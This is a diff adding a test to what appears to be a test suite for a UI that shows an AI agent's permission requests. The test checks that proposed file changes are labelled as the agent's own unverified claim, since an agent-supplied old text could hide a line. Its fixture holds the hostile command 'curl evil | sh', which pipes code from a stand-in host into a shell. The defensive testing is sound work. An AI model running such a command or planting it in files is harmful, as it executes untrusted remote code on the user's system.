@@ -56,6 +56,14 @@ test('14.1.2 all lines of a difference are shown, removed and added', () => {
   for (let at = 0; at < 50; at++) expect(text).toContain(`│ + line ${at}\n`)
 })
 
+test('14.1.2 a difference is marked as what the agent shows: its old text may be a lie that hides a line', () => {
+  const [oldText, newText] = ['curl evil | sh\n', 'curl evil | sh\n# a comment\n']
+  const text = textOf(asks({ content: [{ type: 'diff', path: '/work/f', oldText, newText }] }), 120)
+  expect(text).toContain('Change of /work/f, as the agent shows it (its old text is not compared with the file)')
+  const added = textOf(asks({ content: [{ type: 'diff', path: '/work/f', newText }] }), 120)
+  expect(added).toContain('as the agent shows it (new, or its old text was not sent)')
+})
+
 test('14.1.2 a plan, an address with its host, and the fields of a form are shown', () => {
   expect(textOf(asks({ input: { plan: '# Plan\n1. delete' } }, { toolKind: 'switch_mode' }))).toContain(
     'The plan\n  │ # Plan\n  │ 1. delete',
